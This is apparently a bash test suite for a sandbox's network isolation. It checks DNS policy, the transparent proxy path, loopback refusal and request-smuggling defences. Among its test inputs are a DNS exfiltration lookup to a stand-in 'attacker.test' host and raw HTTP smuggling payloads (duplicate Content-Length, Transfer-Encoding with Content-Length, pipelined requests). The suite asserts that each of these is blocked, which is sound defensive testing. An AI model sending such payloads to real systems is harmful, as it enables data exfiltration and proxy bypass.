#!/usr/bin/env bash
# Network for every client: a resolver inside the sandbox's network namespace answers
# from the policy (a name on the allow list gets an address of the run's pool, every other name
# is refused and reported), and connections to those addresses on ports 80 and 443 reach the
# proxy, which knows the name from the address and decides as for CONNECT. No proxy variable is
# needed. The lab's names are in its /etc/hosts (allowed.test, and loopname.test on loopback):
# inside, /etc/hosts keeps only this machine's loopback names, so clients ask the sandbox's
# resolver for them as they would for a real name.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/netlab.sh"
if [ "$(id -u)" -ne 0 ] || ! command -v ip >/dev/null || ! command -v curl >/dev/null; then
  echo "the network lab needs root, ip and curl"
  exit 77
fi
trap 'lab_down; cleanup' EXIT
lab_up || { echo "cannot build the lab"; exit 1; }

S="$SCRATCH/net.json"
printf '{"sandbox":{"enabled":true,"network":{"allowedDomains":["allowed.test","allowed.test:22","loopname.test","mappedown.test","other.test:8080"],"deniedDomains":["denied.test"]}}}' > "$S"
NOPROXY='env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u ALL_PROXY -u all_proxy -u NO_PROXY -u no_proxy'

lab_wb run --settings "$S" -- getent hosts allowed.test
check "getent: an allowed name resolves inside, to the run's pool" grep -qE '^127\.100\.[0-9]+\.[0-9]+ +allowed\.test' <<<"$OUT"
lab_wb run --settings "$S" -- cat /etc/hosts
check "the sandbox's /etc/hosts keeps localhost" grep -qE '^127\.0\.0\.1 localhost' <<<"$OUT"
check "and none of the host's other names" bash -c '! grep -qE "allowed\.test|loopname\.test|mappedown\.test" <<<"$0"' "$OUT"
check "the host's own file is untouched" grep -q "allowed.test" "/etc/netns/$LAB_CL/hosts"
# DNS over TCP (what a client falls back to, or dig +tcp uses), on port 53 of every address.
lab_wb run --settings "$S" -- python3 -c "
import socket, struct
def ask(name):
    q = struct.pack('>HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0)
    q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\0' + struct.pack('>HH', 1, 1)
    s = socket.create_connection(('127.0.0.1', 53), timeout=5)
    s.sendall(struct.pack('>H', len(q)) + q)
    n = struct.unpack('>H', s.recv(2))[0]
    a = b''
    while len(a) < n: a += s.recv(n - len(a))
    print(name, 'rcode', a[3] & 15, 'answers', struct.unpack('>H', a[6:8])[0], 'addr', '.'.join(map(str, a[-4:])))
ask('allowed.test'); ask('unlisted-tcp.test')"
check "DNS over TCP: an allowed name gets a pool address" grep -qE "allowed.test rcode 0 answers 1 addr 127\.100\." <<<"$OUT"
check "DNS over TCP: another is refused (REFUSED) and listed" \
  bash -c 'grep -q "unlisted-tcp.test rcode 5 answers 0" <<<"$0" && grep -q "deny dns unlisted-tcp.test" <<<"$0"' "$OUT"
lab_wb run --settings "$S" -- getent ahostsv4 localhost
check "localhost, asked of the resolver, is the sandbox's own loopback (quietly)" grep -q "^127.0.0.1 " <<<"$OUT"
check "and is not reported" bash -c '! grep -q "deny dns localhost" <<<"$0"' "$OUT"
lab_wb run --settings "$S" -- getent hosts unlisted.test
check "getent: a name on no list does not resolve" [ "$RC" -ne 0 ]
check "and is reported as a refused lookup" grep -q "deny dns unlisted.test (not on the allow list)" <<<"$OUT"
lab_wb run --settings "$S" -- getent hosts denied.test
check "a name on the deny list is refused with its rule" grep -q "deny dns denied.test (host is on the deny list: denied.test)" <<<"$OUT"

lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 http://allowed.test/hello-tp-curl
check "curl with no proxy variable reaches an allowed host (server received it)" received "80 GET /hello-tp-curl host=allowed.test"
check "and got the answer" grep -q "hello from 80" <<<"$OUT"
lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 -k https://allowed.test/hello-tp-https
check "HTTPS too (TLS through the transparent path)" received "443 GET /hello-tp-https"
lab_wb run --settings "$S" -- $NOPROXY bash -c 'exec 3<>/dev/tcp/allowed.test/80; printf "GET /hello-tp-devtcp HTTP/1.0\r\nHost: allowed.test\r\n\r\n" >&3; head -1 <&3'
check "bash /dev/tcp reaches it" received "80 GET /hello-tp-devtcp"
lab_wb run --settings "$S" -- $NOPROXY python3 -c "
import socket
a = socket.getaddrinfo('allowed.test', 80, socket.AF_INET, socket.SOCK_STREAM)[0][4]
s = socket.create_connection(a, timeout=5)
s.sendall(b'GET /hello-tp-python HTTP/1.0\r\nHost: allowed.test\r\n\r\n')
print(s.recv(100).split(b'\r\n')[0].decode())"
check "a Python socket client after getaddrinfo reaches it" received "80 GET /hello-tp-python"
check "and read the answer" grep -q "HTTP/1.0 200" <<<"$OUT"

# Java ignores the proxy variables altogether; ssh without a ProxyCommand speaks to port 22.
cat > "$WS/Get.java" <<'JAVA'
public class Get {
  public static void main(String[] a) throws Exception {
    java.net.HttpURLConnection c = (java.net.HttpURLConnection) new java.net.URL(a[0]).openConnection();
    c.setConnectTimeout(5000);
    System.out.println("java " + c.getResponseCode());
  }
}
JAVA
if command -v java >/dev/null; then
  lab_wb run --settings "$S" -- $NOPROXY java "$WS/Get.java" http://allowed.test/hello-tp-java
  check "Java's HttpURLConnection reaches an allowed host (server received it)" received "80 GET /hello-tp-java"
  lab_wb run --settings "$S" -- $NOPROXY java "$WS/Get.java" http://unlisted.test/tp-java-refused
  check "and a name on no list is refused, the lookup listed" grep -q "deny dns unlisted.test" <<<"$OUT"
fi
if command -v ssh >/dev/null; then
  lab_wb run --settings "$S" -- $NOPROXY ssh -o BatchMode=yes -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 -p 22 probe@allowed.test true
  check "ssh with no ProxyCommand reaches an allowed host's port 22" received "22 ssh SSH-2.0-OpenSSH"
  lab_wb run --settings "$S" -- $NOPROXY ssh -o BatchMode=yes -o StrictHostKeyChecking=no \
    -o UserKnownHostsFile=/dev/null -o ConnectTimeout=5 -p 22 probe@other.test true
  check "ssh to a name not allowed on port 22 is refused, and said" grep -q "deny network-outbound other.test:22" <<<"$OUT"
fi
lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 http://other.test/tp-refused
check "a name not allowed: nothing reached the server" bash -c '! grep -q tp-refused "$0"' "$LAB_LOG"
lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 "http://$LAB_UP_IP/tp-literal"
check "a direct connection to an address still fails" bash -c '! grep -q tp-literal "$0"' "$LAB_LOG"
# An address the allowlist names as a literal is reachable directly too (and only that one).
S2="$SCRATCH/literal.json"
printf '{"sandbox":{"enabled":true,"network":{"allowedDomains":["%s"]}}}' "$LAB_UP_IP" > "$S2"
lab_wb run --settings "$S2" -- $NOPROXY curl -s -m 5 "http://$LAB_UP_IP/hello-tp-literal-ok"
check "a direct connection to an allowed address literal reaches it" received "80 GET /hello-tp-literal-ok"
lab_wb run --settings "$S2" -- $NOPROXY curl -s -m 5 "http://198.18.$((LAB_ID % 250)).9/tp-literal-other"
check "another address stays unreachable" bash -c '! grep -q tp-literal-other "$0"' "$LAB_LOG"
lab_wb run --settings "$S" -- $NOPROXY python3 -c "
import socket
s = socket.create_connection(('127.0.0.1', 443), timeout=3)
s.sendall(b'x'); print('read', s.recv(10))"
check "a connection to 127.0.0.1:443 inside is refused and reported" grep -q "deny network-outbound 127.0.0.1:443 (a direct connection" <<<"$OUT"
# The local-address check through the transparent path: an allowed name that resolves to loopback on the host.
lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 http://loopname.test/tp-loop
check "local-address check: an allowed name resolving to this host's loopback is refused" grep -q "deny network-outbound loopname.test:80 (resolves to a local address" <<<"$OUT"
check "local-address check through the transparent path, IPv6: a name resolving to this host (::ffff:) is refused" \
  bash -c 'OUT=$(cd "$0" && ip netns exec "$1" "$2" run --settings "$3" -- '"$NOPROXY"' curl -s -m 5 http://mappedown.test/tp-mapped 2>&1); grep -q "deny network-outbound mappedown.test:80 (resolves to a local address" <<<"$OUT"' "$WS" "$LAB_CL" "$WAVEBOX" "$S"
# An allowlist entry with its own port gets a transparent listener of its own (ssh's 22 would).
lab_wb run --settings "$S" -- $NOPROXY bash -c 'exec 3<>/dev/tcp/other.test/8080; printf "GET /hello-tp-port HTTP/1.0\r\nHost: other.test\r\n\r\n" >&3; head -1 <&3'
check "a raw client reaches an allowed name on the entry's own port" received "8080 GET /hello-tp-port"
lab_wb run --settings "$S" -- $NOPROXY curl -s -m 5 http://other.test/tp-other-80
check "and that name on another port is refused, and said" grep -q "deny network-outbound other.test:80 (host is not on the allow list)" <<<"$OUT"
# Nothing asked a real resolver: the lab's DNS listener heard nothing.
lab_wb run --settings "$S" -- $NOPROXY sh -c 'getent hosts exfil-secret-data.attacker.test; python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(b\"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x03bad\\x04test\\x00\\x00\\x01\\x00\\x01\", (\"$LAB_UP_IP\", 53))
" 2>/dev/null; true'
check "a lookup of an attacker's name is refused" grep -q "deny dns exfil-secret-data.attacker.test" <<<"$OUT"
check "no query left the sandbox (the lab's resolver logged nothing)" bash -c '! grep -q "^udp " "$0"' "$LAB_LOG"
# The proxies stay for the clients that use them.
lab_wb run --settings "$S" -- curl -s -m 5 http://allowed.test/hello-tp-proxied
check "the HTTP proxy still works beside it" received "80 GET /hello-tp-proxied"

# Plain HTTP is read as a server would read it, on both paths: a Host naming another host (a
# shared server or CDN routes by it), two lengths, a transfer-encoding beside a length are
# refused before anything is sent, and a Host refusal is reported.
TCP_SEND='exec 3<>/dev/tcp/allowed.test/80; printf "$0" >&3; head -1 <&3'
lab_wb run --settings "$S" -- $NOPROXY bash -c "$TCP_SEND" 'GET /tp-host-other HTTP/1.1\r\nHost: denied.test\r\n\r\n'
check "transparent: a Host naming another host reaches nothing" bash -c '! grep -q tp-host-other "$0"' "$LAB_LOG"
check "and is reported with the host it named" grep -q "deny network-outbound allowed.test:80 (the Host header names denied.test" <<<"$OUT"
lab_wb run --settings "$S" -- $NOPROXY bash -c "$TCP_SEND" 'POST /tp-two-lengths HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\nContent-Length: 44\r\n\r\nGET /tp-smuggled HTTP/1.1\r\nHost: denied.test\r\n\r\n'
check "transparent: two Content-Lengths: neither request reaches the server" bash -c '! grep -qE "tp-two-lengths|tp-smuggled" "$0"' "$LAB_LOG"
lab_wb run --settings "$S" -- $NOPROXY bash -c "$TCP_SEND" 'POST /tp-te-cl HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'
check "transparent: Transfer-Encoding with a Content-Length reaches nothing" bash -c '! grep -q tp-te-cl "$0"' "$LAB_LOG"
lab_wb run --settings "$S" -- $NOPROXY bash -c "$TCP_SEND" 'POST /hello-tp-one HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 2\r\n\r\nokGET /tp-pipelined HTTP/1.1\r\nHost: denied.test\r\n\r\n'
check "transparent: one request per connection: the first arrives" received "80 POST /hello-tp-one bytes=2"
check "and the one behind it never does" bash -c '! grep -q tp-pipelined "$0"' "$LAB_LOG"
lab_wb run --settings "$S" -- curl -s -m 5 -H 'Host: denied.test' http://allowed.test/px-host-other
check "proxy: a Host naming another host reaches nothing" bash -c '! grep -q px-host-other "$0"' "$LAB_LOG"
check "and is reported" grep -q "deny network-outbound allowed.test:80 (the Host header names denied.test" <<<"$OUT"
PROXY_SEND='p=${HTTP_PROXY##*:}; exec 3<>/dev/tcp/127.0.0.1/${p%/}; printf "$0" >&3; head -1 <&3'
lab_wb run --settings "$S" -- bash -c "$PROXY_SEND" 'POST http://allowed.test/px-two-lengths HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\nContent-Length: 3\r\n\r\nabc'
check "proxy: two Content-Lengths are answered 400" grep -q "HTTP/1.1 400" <<<"$OUT"
check "proxy: two Content-Lengths reach nothing" bash -c '! grep -q px-two-lengths "$0"' "$LAB_LOG"

# serve: two sessions in one process share one proxy; each run's resolver answers from its own
# session's allowlist, and a pool address means a name only to the run that was given it.
mkdir -p "$SCRATCH/sa" "$SCRATCH/sb"
serve_out=$(cd "$WS" && ip netns exec "$LAB_CL" timeout 120 python3 - "$WAVEBOX" "$WAVEBOX_SRC/tests/serve" "$SCRATCH" <<'PY' 2>&1
import sys
sys.path.insert(0, sys.argv[2])
from wbclient import Server, out
scratch = sys.argv[3]
def settings(allow):
    return {"sandbox": {"enabled": True, "network": {"allowedDomains": [allow]}}}
srv = Server(sys.argv[1])
srv.result("initialize", {})
srv.result("session/open", {"sessionId": "A", "cwd": scratch + "/sa", "settings": settings("allowed.test")})
srv.result("session/open", {"sessionId": "B", "cwd": scratch + "/sb", "settings": settings("other.test")})
clean = "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy -u NO_PROXY -u no_proxy "
ia = srv.send("command/exec", {"sessionId": "A", "commandLine":
    clean + "sh -c 'getent hosts allowed.test; getent hosts other.test; curl -s -m 5 http://allowed.test/hello-serve-A'"})
ib = srv.send("command/exec", {"sessionId": "B", "commandLine":
    clean + "sh -c 'getent hosts other.test; getent hosts allowed.test; curl -s -m 5 http://other.test/hello-serve-B'"})
for name, i in (("A", ia), ("B", ib)):
    r = srv.wait(i)["result"]
    print(name, "out", " ".join(out(r).split()))
    print(name, "violations", " | ".join(v["line"] for v in r.get("violations", [])))
srv.close()
PY
)
check "serve: session A resolves its own host" grep -qE "^A out 127\.100\.[0-9.]+ allowed\.test" <<<"$serve_out"
check "serve: A's resolver refuses B's host" grep -q "^A violations.*deny dns other.test" <<<"$serve_out"
check "serve: session B resolves its own host" grep -qE "^B out 127\.100\.[0-9.]+ other\.test" <<<"$serve_out"
check "serve: B's resolver refuses A's host" grep -q "^B violations.*deny dns allowed.test" <<<"$serve_out"
check "serve: each reached its own host through the transparent path" \
  bash -c 'grep -q "80 GET /hello-serve-A" "$0" && grep -q "80 GET /hello-serve-B" "$0"' "$LAB_LOG"

# serve with network approval: a name on neither list resolves, and its connection is asked of
# the client (accepted here) — the transparent path asks as the proxies do.
approval_out=$(cd "$WS" && ip netns exec "$LAB_CL" timeout 120 python3 - "$WAVEBOX" "$WAVEBOX_SRC/tests/serve" "$SCRATCH" <<'PY' 2>&1
import sys
sys.path.insert(0, sys.argv[2])
from wbclient import Server, out
srv = Server(sys.argv[1])
srv.result("initialize", {"capabilities": {"networkApproval": True, "networkApprovalTimeoutMs": 5000}})
srv.result("session/open", {"sessionId": "Q", "cwd": sys.argv[3] + "/sa", "settings": {"sandbox": {
    "enabled": True}}})
clean = "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy -u NO_PROXY -u no_proxy "
i = srv.send("command/exec", {"sessionId": "Q", "commandLine": clean + "curl -s -m 10 http://allowed.test/hello-tp-asked"})
q = srv.wait_request("network/requestApproval", 1, timeout=20)
print("asked", q["params"]["host"], q["params"]["port"])
srv.answer(q["id"], {"decision": "accept"})
r = srv.wait(i, 30)["result"]
print("exit", r["exitCode"], out(r).strip())
srv.close()
PY
)
check "serve: the transparent path asks the client about a host on neither list ($approval_out)" \
  grep -q "asked allowed.test 80" <<<"$approval_out"
check "serve: accepted, the connection went through" received "80 GET /hello-tp-asked"

# The same as an unprivileged user: binding port 53 and the nameserver addresses happen in the
# sandbox's own user namespace.
user=wavebox-test
if id "$user" >/dev/null 2>&1; then
  uws="$SCRATCH/userws"; mkdir -p "$uws"; chown "$user" "$uws"; chmod o+rx "$SCRATCH"; chmod o+r "$S"
  OUT=$(ip netns exec "$LAB_CL" runuser -u "$user" -- sh -c "cd '$uws' && HOME='$uws' '$WAVEBOX' run --settings '$S' -- $NOPROXY sh -c 'curl -s -m 5 http://allowed.test/hello-tp-user; getent hosts unlisted.test'" 2>&1)
  check "unprivileged: the transparent path reaches an allowed host" received "80 GET /hello-tp-user"
  check "unprivileged: a refused lookup is listed" grep -q "deny dns unlisted.test" <<<"$OUT"
fi
finish
